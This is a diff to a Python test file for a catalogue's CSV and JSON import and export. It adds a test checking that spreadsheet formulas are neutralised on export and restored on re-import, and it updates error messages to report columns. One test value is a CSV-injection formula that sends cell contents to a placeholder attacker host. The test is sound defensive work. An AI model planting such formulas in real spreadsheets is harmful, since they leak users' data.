@@ -1,4 +1,6 @@
+import csv
 import datetime
+import io
 import tempfile
 from io import StringIO
 from pathlib import Path
@@ -80,6 +82,30 @@ class RoundTripTestCase(BaseTestCase):
         text = export("--format", "csv")
         self.assertIn(",2020,en,https://example.org/a?b=1,draft,members,2024-05-06,", text)
 
+    def test_it_neutralises_formulas_and_reimports_them_unchanged(self):
+        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+        Resource.objects.filter(key="demo:3").update(
+            title=hostile, summary="+1 and more", body="@SUM(A1)\rline\r\nnext"
+        )
+        Resource.objects.filter(key="demo:4").update(title="-5 reasons", summary="'=quoted")
+        text = export("--format", "csv")
+        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        cells = [c for row in rows for c in row]
+        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")])
+        self.assertIn("'" + hostile, cells)
+        path = Path(self.tmp.name) / "catalogue.csv"
+        path.write_text(text, encoding="utf-8", newline="")
+        empty_catalogue()
+        call_command("import", str(path), stdout=StringIO())
+        three = Resource.objects.get(key="demo:3")
+        self.assertEqual(
+            (three.title, three.summary, three.body),
+            (hostile, "+1 and more", "@SUM(A1)\rline\nnext"),
+        )
+        four = Resource.objects.get(key="demo:4")
+        self.assertEqual((four.title, four.summary), ("-5 reasons", "'=quoted"))
+        self.assertEqual(export("--format", "csv"), text.replace("\r\n", "\n"))
+
     def test_it_exports_to_a_file(self):
         path = Path(self.tmp.name) / "out.csv"
         call_command("export", "-o", str(path), stdout=StringIO(), stderr=StringIO())
@@ -102,16 +128,16 @@ class MalformedTestCase(BaseTestCase):
     def test_it_reports_csv_rows_by_line(self):
         text = "key,title,date,audiences\na,One,2020,Parents\nb,Two,2020-13,Parents\nc,Three\n"
         message = self.refused("x.csv", text)
-        self.assertTrue(message.startswith(":3: date '2020-13'"), message)
+        self.assertTrue(message.startswith(":3:3: date '2020-13'"), message)
         self.assertIn(":4: 2 fields, but the header has 4 columns", message)
 
     def test_it_counts_lines_inside_quoted_fields(self):
         text = 'key,title,status\na,"One\nwith a newline",published\nb,Two,lost\n'
-        self.assertTrue(self.refused("x.csv", text).startswith(":4: status 'lost'"))
+        self.assertTrue(self.refused("x.csv", text).startswith(":4:3: status 'lost'"))
 
     def test_it_refuses_unknown_csv_columns(self):
         message = self.refused("x.csv", "key,title,audience\na,One,Parents\n")
-        self.assertIn(":1: unknown columns 'audience'", message)
+        self.assertIn(":1:3: unknown columns 'audience'", message)
 
     def test_it_refuses_a_listing_given_as_csv(self):
         message = self.refused("x.csv", SAMPLE.read_text(encoding="utf-8"))
@@ -121,16 +147,20 @@ class MalformedTestCase(BaseTestCase):
         message = self.refused(
             "x.json", '{"resources": [\n{"key": "a", "title": "One"},\n{"key": }\n]}'
         )
-        self.assertTrue(message.startswith(":3: not valid JSON"), message)
+        self.assertTrue(message.startswith(":3:9: not valid JSON: Expecting value"), message)
 
-    def test_it_reports_json_records_by_number(self):
+    def test_it_reports_json_records_by_line_column_and_number(self):
         text = (
-            '[{"key": "a", "title": "One"}, {"key": "b"},\n'
+            '[{"key": "a", "title": "One"}, {"title": "B"},\n'
             '{"key": "c", "title": "T", "terms": {"mood": ["x"]}}]'
         )
         message = self.refused("x.json", text)
-        self.assertTrue(message.startswith(": record 2: the title is missing"), message)
-        self.assertIn("record 3: unknown vocabulary 'mood'", message)
+        self.assertTrue(message.startswith(":1:32: record 2: the key is missing"), message)
+        self.assertIn(":2:1: record 3: unknown vocabulary 'mood'", message)
+
+    def test_it_needs_a_title_for_a_new_json_item(self):
+        message = self.refused("x.json", '[{"key": "a", "title": "One"}, {"key": "b"}]')
+        self.assertIn(": record 2: 'b' is not in the catalogue; a new item needs a title", message)
 
     def test_it_refuses_links_to_unknown_keys(self):
         text = (
